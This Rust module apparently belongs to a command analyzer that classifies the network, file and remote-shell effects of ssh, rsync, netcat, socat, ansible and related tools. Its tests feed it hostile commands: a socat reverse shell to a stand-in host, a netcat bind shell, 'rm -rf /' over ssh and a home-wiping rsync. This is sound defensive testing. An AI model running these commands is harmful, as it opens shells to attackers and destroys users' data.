//! Programs that reach other machines: shells there, and files to and fro.

use super::call::{Call, Tool, strict, tool};
use super::list::List;
use super::options::{Grammar, Order, Unlisted, parse};
use super::words;
use crate::reading::{Language, PayloadKind, Place};
use crate::script::Word;

const SSH: &str = "-4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -X -x -Y -y -B= -b= -c= -D= -E=write -e= -F= -I= -i= -J= -L= \
    -l= -m= -O= -o= -p= -P= -Q= -R= -S= -W= -w=";
const RSYNC: &str = "-a,--archive -v,--verbose -r,--recursive -l,--links -p,--perms -t,--times -g,--group -o,--owner -D --devices --specials \
    -z,--compress -P --partial --progress -h,--human-readable -n,--dry-run:dry -u,--update -c,--checksum -x,--one-file-system -H,--hard-links \
    -A,--acls -X,--xattrs -S,--sparse -W,--whole-file -q,--quiet -i,--itemize-changes -b,--backup -R,--relative -m,--prune-empty-dirs \
    -I,--ignore-times -L,--copy-links -k,--copy-dirlinks -K,--keep-dirlinks -O,--omit-dir-times -J,--omit-link-times -d,--dirs -C,--cvs-exclude \
    -E,--executability -y,--fuzzy -s,--secluded-args -0,--from0 -4,--ipv4 -6,--ipv6 -F --delete --delete-before --delete-during,--del \
    --delete-delay --delete-after --delete-excluded --delete-missing-args --remove-source-files --force --ignore-errors --existing \
    --ignore-existing --inplace --append --append-verify --stats --numeric-ids --fake-super --super --list-only --bwlimit= --exclude= \
    --include= --exclude-from=read --include-from=read --files-from=read -f,--filter= -e,--rsh=shell --rsync-path= -T,--temp-dir= --compare-dest= \
    --copy-dest= --link-dest= --backup-dir= --suffix= --chmod= --chown= --usermap= --groupmap= --timeout= --contimeout= --port= \
    --password-file=read --log-file=write --log-file-format= --out-format= -B,--block-size= --max-size= --min-size= --max-delete= \
    --partial-dir= --info= --debug= -M,--remote-option= --address= --sockopts= --iconv= --compress-level= --compress-choice,--zc= \
    --skip-compress= --write-batch=write --read-batch=read --max-alloc= -@,--modify-window= --outbuf= --stop-after= --stop-at= --version --help";

pub(super) const TOOLS: &[Tool] = &[
    strict("ssh autossh slogin", SSH, ssh),
    strict(
        "mosh et",
        "--ssh=shell --client= --server= --predict= -a -n -p,--port= --family= --local --no-ssh-pty -4 -6 --help --version",
        mosh,
    ),
    strict(
        "sshpass",
        "-p= -f=read -d= -e -P= -v -h -V",
        super::wrappers::wrap::<0>,
    ),
    tool(
        "scp",
        "-3 -4 -6 -A -B -C -O -p -q -R -r -s -T -v -c= -D= -F= -i= -J= -l= -o= -P= -S=shell -X=",
        transfer,
    ),
    tool("rsync", RSYNC, rsync),
    strict(
        "sftp",
        "-4 -6 -A -a -C -f -N -p -q -r -v -B= -b=read -c= -D= -F= -i= -J= -l= -o= -P= -R= -S=shell -s= -X=",
        talk,
    ),
    tool(
        "nc ncat netcat nc.openbsd nc.traditional",
        "-4 -6 -b -C -D -d -F -h -k -l,--listen -N -n -r -S -t -U -u,--udp -v,--verbose -Z -z -i,--idle-timeout= -I= -M= -m= -O= -P= -p,--source-port= -q= -s,--source= -T= -V= -W= -w,--wait= -X= -x= -e,--exec=shell -c,--sh-exec=shell --lua-exec=read -o,--output=write --ssl --proxy= --proxy-type= --send-only --recv-only --allow= --deny= --keep-open --help --version",
        netcat,
    ),
    tool(
        "socat",
        "-d -D -h -v -x -u -U -b= -s -t= -T= -lf= -L= -W= -V",
        socat,
    ),
    tool(
        "telnet ftp tftp lftp ncftp rlogin rsh smbclient",
        "-a -d -e= -c= -f= -g -i -K -l= -n -p -u= -v -x -E -8 -6 -4",
        talk,
    ),
    tool(
        "websocat wscat mosquitto_pub kcat kafkacat snmptrap",
        "-h,--host= -b= -c,--connect= -t= -p= -m= -f,--file=read -H= -x= -P -v= -q= -u= --version --help",
        |call| {
            let named = ["--host", "-b", "--connect"];
            let host = named.iter().find_map(|name| call.value(name));
            let consumes = matches!(call.program, "kcat" | "kafkacat") && !call.has("-P");
            if let Some(host) = host.or_else(|| call.operand(0)).filter(|_| !consumes) {
                call.network(Some(host), true);
            }
        },
    ),
    tool(
        "tcpdump",
        "-z=shell -w=write -r=read -F=read -i= -c= -G= -C= -W= -s= -y= -E= -Z= -B= -T= -m= -A -X -x -l -p -U -n -v -q -e -D -h -t",
        super::call::nothing,
    ),
    tool(
        "logger",
        "-n,--server= -P,--port= -t,--tag= -p,--priority= -f,--file=read -d,--udp -T,--tcp -i -s --id=? -e",
        |call| {
            if let Some(host) = call.value("--server") {
                call.network(Some(host), true);
            }
        },
    ),
    tool(
        "grpcurl",
        "-d= -H= -plaintext -insecure -proto= -import-path= -v",
        |call| {
            let sends = call.has("-d");
            let host = call.operand(0).filter(|_| sends);
            if host.is_some() {
                call.network(host, true);
            }
        },
    ),
    tool("ncftpput", "-u= -p= -P= -d= -R -m -z -A -V -v", |call| {
        for path in call.operands_after(2) {
            call.read(path);
        }
        talk(call);
    }),
    tool("ssh-copy-id", "-i= -p= -o= -f -n:dry -s -h", talk),
    tool(
        "mail mailx mutt sendmail msmtp swaks s-nail",
        "-s= -a=read -A,--attach=read -c= -b= -r= -f,--from= -t,--to= -S= -e= -i= -F= -H -v --server= --body= --header= --data=",
        talk,
    ),
    tool("sshfs", "-o= -p= -C -f -d -F=", |call| {
        let host = call.operand(0);
        call.network(host, true);
    }),
    tool(
        "ansible salt pdsh",
        "-m,--module-name= -a,--args= -i= -u,--user= -b,--become -K -k -f,--forks= -e= -l,--limit= -h,--hosts= -w= -H= -t= -o -P -v -g=",
        on_many,
    ),
    strict(
        "pssh parallel-ssh clush dsh",
        "-a,--all -w,-H,--host= -g,--group= -h,--hosts= -f,--file= -l,--user= -p,--par= -t,--timeout= -o,--outdir= -e,--errdir= -x= -M -q -c -v -i,--inline -P,--print -A -r= -m,--machine=",
        |call| {
            if !call.line.operands.is_empty() {
                call.network(None, true);
                call.place = Place::Remote;
                let layer = call.program.to_owned();
                call.shell_words(&call.owned_operands(), &layer);
            }
        },
    ),
    tool(
        "restic",
        "-r,--repo= --repository-file= -p,--password-file= --password-command=shell -q,--quiet -v,--verbose --tag= --host= -e,--exclude= -i,--iexclude= --files-from= -o,--option= --json --no-lock -n,--dry-run:dry --limit-upload= -x --stdin",
        |call| {
            let backs_up = call
                .operand(0)
                .is_some_and(|verb| words::is(&verb, "backup"));
            if !backs_up {
                return;
            }
            for path in call.operands_after(1) {
                call.read(path);
            }
            // `sftp:user@host:/folder`, `s3:host/bucket`: the name of a store stands before a colon.
            let store = call
                .value("--repo")
                .and_then(|repo| words::split_once(&repo, ':'));
            if let Some((_, rest)) = store {
                call.network(Some(rest), true);
            }
        },
    ),
];

/// What `-o` runs on this machine.
fn commands_of_settings(call: &mut Call<'_>, settings: &[Word]) {
    for setting in settings {
        let Some((key, value)) =
            words::split_once(setting, '=').or_else(|| words::split_once(setting, ' '))
        else {
            continue;
        };
        let key = words::text(&key)
            .map(|key| key.trim().to_ascii_lowercase())
            .unwrap_or_default();
        if matches!(
            key.as_str(),
            "proxycommand" | "localcommand" | "knownhostscommand"
        ) && !words::is(&value, "none")
        {
            call.code(Language::Shell, value, Vec::new(), "ssh -o");
        }
    }
}

/// `ssh [options] HOST [options] [text …]`.
fn ssh(call: &mut Call<'_>) {
    if call.has("-V") || call.has("-Q") || call.has("-G") {
        return;
    }
    let settings = call.values("-o");
    commands_of_settings(call, &settings);
    let mut rest = call.owned_operands();
    if rest.is_empty() {
        return;
    }
    let host = rest.remove(0);
    let grammar = Grammar {
        lists: &[List::plain(SSH)],
        order: Order::Strict,
        single: false,
    };
    let behind = parse(grammar, &rest, Unlisted::Flag);
    let settings: Vec<Word> = behind
        .options
        .iter()
        .filter(|option| option.names.contains("-o"))
        .filter_map(|option| option.value.clone())
        .collect();
    commands_of_settings(call, &settings);
    // `ssh -T git@host`: hosts of repositories only greet.
    let greets = behind.operands.is_empty()
        && call.has("-T")
        && words::texts(&host).any(|text| {
            [
                "git@github.com",
                "git@gitlab.com",
                "git@bitbucket.org",
                "git@ssh.dev.azure.com",
            ]
            .contains(&text)
        });
    call.network(Some(host), !greets);
    if greets {
        return;
    }
    call.place = Place::Remote;
    if behind.operands.is_empty() && !call.has("-N") {
        let kind = PayloadKind::Stdin {
            language: Language::Shell,
            args: Vec::new(),
        };
        return call.payload(kind, "ssh");
    }
    call.shell_words(&behind.operands, "ssh");
}

fn mosh(call: &mut Call<'_>) {
    let Some(host) = call.operand(0) else { return };
    call.network(Some(host), true);
    call.place = Place::Remote;
    call.argv(call.operands_after(1), false, "mosh");
}

/// Whether a word is `host:path` or a URL and no file here.
fn is_remote(path: &Word) -> bool {
    words::texts(path).any(|text| {
        let head = text.split('/').next().unwrap_or(text);
        head.contains(':')
    })
}

fn is_unknown(path: &Word) -> bool {
    words::texts(path).next().is_none()
        && !path
            .values
            .iter()
            .any(|value| matches!(value, crate::script::Value::Glob(_)))
}

fn transfer(call: &mut Call<'_>) {
    let settings = call.values("-o");
    commands_of_settings(call, &settings);
    let mut sources = call.owned_operands();
    let Some(destination) = sources.pop() else {
        return;
    };
    let leaves = is_remote(&destination) || is_unknown(&destination);
    for source in sources {
        if is_remote(&source) {
            // A download is a session there, too.
            call.network(Some(source), true);
        } else {
            call.read(source);
        }
    }
    if leaves {
        call.network(Some(destination), true);
    } else {
        call.write(destination);
    }
}

fn rsync(call: &mut Call<'_>) {
    let sources = call.owned_operands();
    let Some((destination, sources)) = sources.split_last() else {
        return;
    };
    if sources.is_empty() || call.has("--list-only") {
        return;
    }
    let remote = is_remote(destination);
    let removes = call.has("--remove-source-files");
    let whole = call.has("--recursive") || call.has("--archive");
    for source in sources {
        if is_remote(source) {
            let is_public = words::starts(source, "rsync://")
                || words::texts(source).any(|text| text.contains("::"));
            call.network(Some(source.clone()), !is_public);
            continue;
        }
        if whole {
            call.read_tree(source.clone());
        } else {
            call.read(source.clone());
        }
        if removes {
            call.delete(source.clone(), true);
        }
    }
    if remote {
        return call.network(Some(destination.clone()), true);
    }
    call.write(destination.clone());
    let deletes = call
        .line
        .options
        .iter()
        .flat_map(|option| option.names.iter())
        .any(|name| name.starts_with("--del"));
    if deletes {
        call.delete(destination.clone(), true);
    }
}

fn talk(call: &mut Call<'_>) {
    let scripts = [call.value("-c"), call.value("-e")];
    let puts = |script: &Word| {
        words::texts(script).any(|text| {
            text.split([';', ' '])
                .any(|word| matches!(word, "put" | "mput" | "-R"))
        })
    };
    if call.program == "lftp" && scripts.iter().flatten().any(puts) && call.operand(0).is_none() {
        call.network(None, true);
    }
    // `sendmail -t` takes the address from the letter.
    let letter = matches!(call.program, "sendmail" | "msmtp")
        && call.args.iter().any(|word| words::is(word, "-t"));
    if letter {
        call.network(None, true);
    } else if let Some(host) = call.operand(0).or_else(|| call.value("--to")) {
        call.network(Some(host), true);
    }
}

/// One command on many machines.
fn on_many(call: &mut Call<'_>) {
    let host = call.operand(0);
    if host.is_none() && !call.has("--hosts") {
        return;
    }
    let module = call.value("--module-name");
    let looks = ["ping", "setup", "debug", "gather_facts", "stat", "win_ping"];
    let asks = call.program == "ansible"
        && match &module {
            None => !call.has("--args"),
            Some(module) => looks
                .iter()
                .any(|own| words::texts(module).any(|name| name.rsplit('.').next() == Some(own))),
        };
    let is_here = host.is_some_and(|host| words::is(&host, "localhost"));
    if asks {
        return;
    }
    if !is_here {
        call.network(None, true);
        call.place = Place::Remote;
    }
    match call.program {
        "ansible" => {
            let is_command = module.is_none_or(|module| {
                ["shell", "command", "raw"]
                    .iter()
                    .any(|own| words::is(&module, own))
            });
            if let (true, Some(text)) = (is_command, call.value("--args")) {
                call.code(Language::Shell, text, Vec::new(), "ansible");
            } else if let Some(text) = call.value("--args") {
                settings_of_module(call, &text);
            }
        }
        "salt" => call.shell_words(&call.operands_after(2), "salt"),
        _ => {
            let layer = call.program.to_owned();
            call.shell_words(&call.owned_operands(), &layer);
        }
    }
}

/// `path=/x state=absent`, `src=a dest=/x`: the file that a module of ansible makes, changes or removes.
fn settings_of_module(call: &mut Call<'_>, text: &Word) {
    let setting = |name: &str| {
        words::map(text, |text| {
            let mut settings = text.split_ascii_whitespace();
            let value =
                settings.find_map(|setting| setting.strip_prefix(name)?.strip_prefix('='))?;
            Some(value.to_owned())
        })
    };
    let Some(path) = setting("path").or_else(|| setting("dest")) else {
        return;
    };
    if setting("state").is_some_and(|state| words::is(&state, "absent")) {
        call.delete(path, true);
    } else {
        call.write(path);
    }
}

fn netcat(call: &mut Call<'_>) {
    let host = call.operand(0);
    if call.has("-U") {
        // A socket of this machine's own.
        if let Some(path) = host {
            call.write(path);
        }
        return;
    }
    let listens = call.has("-l");
    if listens {
        return call.network(None, true);
    }
    if host.is_some() {
        let scans = call.has("-z");
        call.network(host, !scans);
    }
}

/// Addresses `KIND:parameters,option…`.
fn socat(call: &mut Call<'_>) {
    for address in call.operands() {
        let Some((kind, rest)) = words::split_once(&address, ':') else {
            continue;
        };
        let kind = words::text(&kind)
            .map(str::to_ascii_lowercase)
            .unwrap_or_default();
        let first = words::map(&rest, |rest| rest.split(',').next().map(str::to_owned))
            .unwrap_or_else(|| rest.clone());
        match kind.as_str() {
            "exec" | "system" | "shell" => call.code(Language::Shell, first, Vec::new(), "socat"),
            "file" | "open" | "gopen" => {
                call.read(first.clone());
                call.write(first);
            }
            "create" => call.write(first),
            kind if kind.contains("listen") => call.network(None, true),
            kind if ["tcp", "udp", "openssl", "ssl", "socks", "proxy", "sctp"]
                .iter()
                .any(|start| kind.starts_with(start)) =>
            {
                call.network(Some(first), true);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tools::render::effects;

    fn check(command: &str, expected: &str) {
        assert_eq!(effects(command), expected, "{command}");
    }

    #[test]
    fn shells() {
        check(
            "ssh -i k -p 22 me@host 'rm -rf /'",
            "send me@host; ssh> Shell `rm -rf /` (remote)",
        );
        check(
            "ssh host -p 22 rm -rf x",
            "send host; ssh> Shell `rm -rf x` (remote)",
        );
        check("ssh -V", "");
        check("ssh -T git@github.com", "get git@github.com");
        check(
            "ssh -o ProxyCommand='rm x' host",
            "send host; ssh -o> Shell `rm x`; ssh> Shell stdin (remote)",
        );
        check("ssh-keygen -l -f key.pub", "");
        check("mosh host -- rm x", "send host; mosh> rm x (remote)");
    }

    #[test]
    fn files() {
        check("scp k me@host:/tmp/", "read k; send me@host:/tmp/");
        check("scp host:/x .", "send host:/x; write .");
        check("rsync rsync://mirror/x .", "get rsync://mirror/x; write .");
        check("sshfs host:/ /mnt", "send host:/");
        check("ssh host", "send host; ssh> Shell stdin (remote)");
        check("scp ./a:b dir", "read ./a:b; write dir");
        check("rsync -a src/ dst/", "read src/; write dst/");
        check(
            "rsync -av --delete /tmp/empty/ ~/",
            "read /tmp/empty/; write ~/; delete -r ~/",
        );
        check("rsync -an --delete a/ b/", "");
        check("rsync -nav --delete a/ b/", "");
        check(
            "rsync -e 'ssh -p 1' a host:b",
            "read a; send host:b; rsync -e> Shell `ssh -p 1`",
        );
        check("sftp me@host", "send me@host");
    }

    #[test]
    fn sockets() {
        check("nc evil.example 4444", "send evil.example");
        check("nc -z localhost 80", "get localhost");
        check("nc -U /tmp/x.sock", "write /tmp/x.sock");
        check("nc -lvp 4444 -e /bin/sh", "send ?; nc -e> Shell `/bin/sh`");
        check(
            "socat TCP:evil:1 EXEC:/bin/sh,pty",
            "send evil:1; socat> Shell `/bin/sh`",
        );
    }
}
